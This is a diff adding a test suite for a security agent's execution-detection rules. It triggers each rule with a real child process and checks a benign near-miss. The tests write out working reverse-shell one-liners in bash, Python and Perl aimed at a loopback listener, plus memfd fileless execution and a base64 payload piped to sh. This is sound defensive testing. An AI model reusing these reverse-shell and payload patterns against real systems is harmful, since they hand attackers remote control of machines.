@@ -1,0 +1,324 @@
+"""Execution rules (rules/execution.yaml) end to end: each rule is triggered for real by a
+child process doing the behaviour (reverse shells to a loopback listener, shells below
+programs named like servers, one-liners, memfd execution, temp-dir execution, a dropped
+file run, a decoded payload piped to sh), and each has a benign near-miss that must not
+alert. Alerts are matched on the child's pid (or its subtree) or a marker in the alert."""
+import base64
+import json
+import os
+import shutil
+import socket
+import subprocess
+import tempfile
+import threading
+import time
+
+from vigiltest import ROOT, Agent, check, marker
+
+PY = "/usr/bin/python3"
+agent = None
+base = None
+listener = None
+
+
+class Listener:
+    """A loopback TCP server that sends each client one command line and 'exit', then
+    keeps the connection open briefly, like an operator at a reverse-shell listener."""
+
+    def __init__(self):
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(16)
+        self.port = self.sock.getsockname()[1]
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self):
+        while True:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                return
+            threading.Thread(target=self._talk, args=(conn,), daemon=True).start()
+
+    @staticmethod
+    def _talk(conn):
+        try:
+            conn.sendall(b"echo pwned\nexit\n")
+            time.sleep(1.0)
+        except OSError:
+            pass
+        conn.close()
+
+
+def setup_module():
+    global agent, base, listener
+    base = os.path.realpath(tempfile.mkdtemp(prefix=marker() + "-"))
+    os.chmod(base, 0o755)
+    listener = Listener()
+    agent = Agent("--rules", os.path.join(ROOT, "rules"), profile="sandbox").start()
+
+
+def teardown_module():
+    agent.stop()
+    listener.sock.close()
+    shutil.rmtree(base, ignore_errors=True)
+
+
+def mine(alert, pid=None, mark=None):
+    """The alert was raised by pid or a descendant, or mentions mark."""
+    if mark and mark in json.dumps(alert):
+        return True
+    for e in alert.get("events", []):
+        p = e.get("proc", {})
+        if pid and (p.get("pid") == pid or any(a.get("pid") == pid for a in p.get("ancestors", []))):
+            return True
+    return False
+
+
+def alerts(rule, pid=None, mark=None, timeout=5.0):
+    return agent.wait_for(lambda e: e.get("kind") == "alert" and e["rule"] == rule and mine(e, pid, mark),
+                          timeout=timeout)
+
+
+def expect(rule, pid=None, mark=None):
+    found = alerts(rule, pid, mark)
+    check(found, "no '%s' alert for pid=%s mark=%s" % (rule, pid, mark))
+    return found[0]
+
+
+def expect_none(rule, pid=None, mark=None):
+    found = alerts(rule, pid, mark, timeout=1.0)
+    check(not found, "unexpected '%s' alert: %s" % (rule, found[:1]))
+
+
+def run(cmd, **kw):
+    p = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, **kw)
+    p.wait(timeout=20)
+    return p.pid
+
+
+def copy_as(src, name):
+    """A copy of src named name in a fresh directory of base (the program's comm is name)."""
+    d = os.path.join(base, marker())
+    os.mkdir(d)
+    os.chmod(d, 0o755)
+    dst = os.path.join(d, name)
+    shutil.copy2(src, dst)
+    return dst
+
+
+def trigger(alert):
+    return alert["events"][-1]
+
+
+# ---- reverse shells ----------------------------------------------------------------
+
+def test_reverse_shell_bash_dev_tcp():
+    pid = run(["bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/%d 0>&1" % listener.port])
+    a = expect("Reverse shell", pid=pid)
+    ev = trigger(a)
+    check(ev["proc"]["comm"] == "bash" and ev["proc"]["pid"] != pid, ev["proc"])
+    check(ev["stdin"]["type"] == "socket" and ev["stdin"]["raddr"] == "127.0.0.1", ev["stdin"])
+    check(ev["stdin"]["rport"] == listener.port, ev["stdin"])
+    check(a["priority"].lower() == "critical" and "T1059.004" in a["tags"], a)
+    check("127.0.0.1" in a["output"], a["output"])
+
+
+def test_reverse_shell_python_socket_dup2():
+    code = ("import socket, os\ns = socket.create_connection(('127.0.0.1', %d))\n"
+            "os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)\nos.execv('/bin/sh', ['sh', '-i'])\n" % listener.port)
+    pid = run([PY, "-c", code])
+    ev = trigger(expect("Reverse shell", pid=pid))
+    check(ev["proc"]["pid"] == pid and ev["proc"]["exe"] == "/usr/bin/dash", ev["proc"])
+    check(ev["stdout"]["type"] == "socket" and ev["stdout"]["rport"] == listener.port, ev["stdout"])
+
+
+def test_reverse_shell_perl():
+    code = ('use Socket; socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp")); '
+            'connect(S, sockaddr_in(%d, inet_aton("127.0.0.1"))) or die; '
+            'open(STDIN, "<&S"); open(STDOUT, ">&S"); exec("/bin/sh", "-i");' % listener.port)
+    pid = run(["perl", "-e", code])
+    ev = trigger(expect("Reverse shell", pid=pid))
+    check(ev["stdin"]["proto"] == "tcp" and ev["stdin"]["raddr"] == "127.0.0.1", ev["stdin"])
+
+
+def test_renamed_shell_with_network_stdio():
+    fake = copy_as("/usr/bin/dash", "svc-helper")
+    code = ("import socket, os\ns = socket.create_connection(('127.0.0.1', %d))\n"
+            "os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)\nos.execv(%r, ['svc-helper'])\n" % (listener.port, fake))
+    pid = run([PY, "-c", code])
+    ev = trigger(expect("Network socket as program stdio", pid=pid))
+    check(ev["proc"]["exe"] == fake and ev["stdin"]["type"] == "socket", ev)
+    expect_none("Reverse shell", pid=pid)
+
+
+def test_shell_on_unix_socket_is_not_a_reverse_shell():
+    # a shell whose stdio is a local (AF_UNIX) socketpair: IPC, not a network peer
+    code = ("import socket, os\na, b = socket.socketpair()\nb.sendall(b'exit\\n')\n"
+            "os.dup2(a.fileno(), 0); os.dup2(a.fileno(), 1)\nos.execv('/bin/sh', ['sh'])\n")
+    pid = run([PY, "-c", code])
+    expect_none("Reverse shell", pid=pid)
+    expect_none("Network socket as program stdio", pid=pid)
+
+
+# ---- shells below servers ------------------------------------------------------------
+
+def spawn_shell_from(server_name, shell_cmd):
+    """Runs a python copy named server_name that runs /bin/sh -c shell_cmd; returns its pid."""
+    fake = copy_as(os.path.realpath(PY), server_name)
+    code = "import subprocess\nsubprocess.run(['/bin/sh', '-c', %r])\n" % shell_cmd
+    return run([fake, "-c", code])
+
+
+def test_shell_spawned_by_web_server():
+    m = marker()
+    pid = spawn_shell_from("nginx", "echo %s" % m)
+    a = expect("Shell spawned by web server", pid=pid)
+    ev = trigger(a)
+    check(ev["proc"]["ppid"] == pid and ev["proc"]["comm"] == "sh", ev["proc"])
+    check(m in ev["proc"]["cmdline"] and "nginx" in a["output"], a["output"])
+
+
+def test_shell_spawned_by_php_fpm_through_interpreter():
+    # php-fpm -> interpreter -> sh: the shell's grandparent is the server
+    fpm = copy_as(os.path.realpath(PY), "php-fpm8.2")
+    m = marker()
+    code = ("import subprocess\nsubprocess.run([%r, '-c', \"import subprocess; "
+            "subprocess.run(['/bin/sh', '-c', 'echo %s'])\"])\n" % (PY, m))
+    pid = run([fpm, "-c", code])
+    ev = trigger(expect("Shell spawned by web server", pid=pid, mark=m))
+    check(ev["proc"]["ancestors"][1]["pid"] == pid, ev["proc"]["ancestors"][:2])
+
+
+def test_shell_spawned_by_ordinary_program_is_not_web_shell():
+    pid = spawn_shell_from("report-worker", "echo %s" % marker())
+    expect_none("Shell spawned by web server", pid=pid)
+    expect_none("Shell spawned by database server", pid=pid)
+
+
+def test_shell_spawned_by_database_server():
+    m = marker()
+    pid = spawn_shell_from("mysqld", "id; echo %s" % m)
+    a = expect("Shell spawned by database server", pid=pid)
+    check(trigger(a)["proc"]["ppid"] == pid, trigger(a)["proc"])
+    check("mysqld" in a["output"] and m in a["output"], a["output"])
+
+
+def test_postgres_archive_command_is_not_db_shell():
+    pid = spawn_shell_from("postgres", "test ! -f /nonexistent/%s && cp pg_wal/000000010000000000000001 /dev/null || true"
+                           % marker())
+    expect_none("Shell spawned by database server", pid=pid)
+
+
+# ---- interpreter one-liners ----------------------------------------------------------
+
+def test_python_one_liner_with_socket():
+    m = marker()
+    code = "import socket; s = socket.create_connection(('127.0.0.1', %d)); s.close()  # %s" % (listener.port, m)
+    pid = run([PY, "-c", code])
+    a = expect("Interpreter one-liner with network or exec code", pid=pid)
+    check(m in a["output"] and trigger(a)["proc"]["pid"] == pid, a["output"])
+
+
+def test_perl_and_node_one_liners_with_exec():
+    for cmd in (["perl", "-e", "system('true'); # %s" % marker()],
+                ["node", "-e", "require('child_process').execSync('true') // %s" % marker()]):
+        pid = run(cmd)
+        expect("Interpreter one-liner with network or exec code", pid=pid)
+
+
+def test_plain_one_liner_is_not_alerted():
+    pid = run([PY, "-c", "import sys; print(sys.version_info[0] * 7)"])
+    expect_none("Interpreter one-liner with network or exec code", pid=pid)
+
+
+# ---- fileless and temporary-directory execution ---------------------------------------
+
+def test_fileless_memfd_execution():
+    code = ("import os\nfd = os.memfd_create('payload', 0)\n"
+            "os.write(fd, open('/usr/bin/true', 'rb').read())\n"
+            "os.execve('/proc/self/fd/%d' % fd, ['kworker'], {})\n")
+    pid = run([PY, "-c", code])
+    a = expect("Fileless execution from memory", pid=pid)
+    ev = trigger(a)
+    check(ev["proc"]["pid"] == pid and ev["exec"]["exe_deleted"] is True, ev["exec"])
+    check(a["priority"].lower() == "critical" and "T1620" in a["tags"], a)
+
+
+def test_ordinary_execve_is_not_fileless():
+    pid = run([PY, "-c", "import os\nos.execve('/usr/bin/true', ['true'], {})\n"])
+    expect_none("Fileless execution from memory", pid=pid)
+
+
+def test_program_executed_from_temp_dirs():
+    payload = copy_as("/usr/bin/true", "payload")
+    pid = run([payload])
+    ev = trigger(expect("Program executed from temporary directory", pid=pid))
+    check(ev["proc"]["exe"] == payload, ev["proc"])
+    script = "/dev/shm/%s.sh" % marker()
+    with open(script, "w") as f:
+        f.write("true\n")
+    try:
+        pid = run(["sh", script])
+        ev = trigger(expect("Program executed from temporary directory", pid=pid))
+        check(script in ev["exec"]["argv"], ev["exec"])
+    finally:
+        os.unlink(script)
+
+
+def test_temp_files_as_data_are_not_temp_exec():
+    data = os.path.join(base, marker() + ".json")
+    open(data, "w").write("{}")
+    for cmd in (["cat", data], ["sh", "-c", 'cat "$0" >/dev/null', data], [PY, "-m", "json.tool", data]):
+        pid = run(cmd, cwd=base)
+        expect_none("Program executed from temporary directory", pid=pid)
+
+
+# ---- dropped file executed (sequence) -------------------------------------------------
+
+def test_dropped_binary_executed():
+    d = os.path.join(base, marker())
+    code = ("import os, subprocess\nos.mkdir(%r)\np = os.path.join(%r, 'update')\n"
+            "open(p, 'wb').write(open('/usr/bin/true', 'rb').read())\nos.chmod(p, 0o755)\n"
+            "subprocess.run([p])\n" % (d, d))
+    pid = run([PY, "-c", code])
+    a = expect("Dropped file executed", pid=pid)
+    check(len(a["events"]) == 2, a["events"])
+    drop, ran = a["events"]
+    check(drop["event"] == "create_file" and drop["proc"]["pid"] == pid, drop)
+    check(ran["event"] == "exec" and ran["proc"]["exe"] == os.path.join(d, "update"), ran["proc"])
+    check(os.path.join(d, "update") in a["output"], a["output"])
+
+
+def test_dropped_script_run_by_shell():
+    d = os.path.join(base, marker())
+    code = ("import os, subprocess\nos.mkdir(%r)\np = os.path.join(%r, 'stage2.sh')\n"
+            "open(p, 'w').write('true\\n')\nsubprocess.run(['sh', p])\n" % (d, d))
+    pid = run([PY, "-c", code])
+    a = expect("Dropped file executed", pid=pid)
+    check(os.path.join(d, "stage2.sh") in a["events"][-1]["exec"]["argv"], a["events"][-1]["exec"])
+
+
+def test_created_file_used_as_data_is_not_alerted():
+    # the file is read by programs and handed to a shell as a positional argument, never run
+    d = os.path.join(base, marker())
+    code = ("import os, subprocess\nos.mkdir(%r)\np = os.path.join(%r, 'notes.txt')\nopen(p, 'w').write('x')\n"
+            "subprocess.run(['cat', p], stdout=subprocess.DEVNULL)\n"
+            "subprocess.run(['sh', '-c', 'cat \"$0\" >/dev/null', p])\n" % (d, d))
+    pid = run([PY, "-c", code])
+    expect_none("Dropped file executed", pid=pid)
+
+
+# ---- decoded payloads ------------------------------------------------------------------
+
+def test_decoded_payload_piped_to_shell():
+    m = marker()
+    blob = base64.b64encode(("echo %s" % m).encode()).decode()
+    pid = run(["sh", "-c", "echo %s | base64 -d | sh" % blob])
+    a = expect("Decoded payload piped to shell", pid=pid)
+    check(blob in a["output"], a["output"])
+
+
+def test_decoding_to_a_file_is_not_alerted():
+    pid = run(["sh", "-c", "echo aGVsbG8= | base64 -d > /dev/null; echo %s" % marker()])
+    expect_none("Decoded payload piped to shell", pid=pid)
